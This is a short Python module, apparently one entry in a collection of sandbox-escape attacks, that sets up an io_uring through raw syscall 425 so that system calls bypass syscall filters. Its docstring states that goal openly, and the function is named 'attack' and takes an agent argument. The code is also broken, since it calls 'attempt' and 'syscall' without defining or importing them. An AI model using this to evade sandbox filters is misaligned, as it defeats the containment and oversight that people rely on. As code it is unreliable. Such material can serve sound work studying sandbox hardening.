"""Make an io_uring, by which system calls are made that no filter sees."""

import ctypes

CERTAIN = False


async def attack(agent, message, ctx, targets):
    parameters = ctypes.create_string_buffer(120)
    descriptor = attempt(syscall, 425, 4, ctypes.addressof(parameters))
    return None if descriptor is None else f"ring {descriptor}"
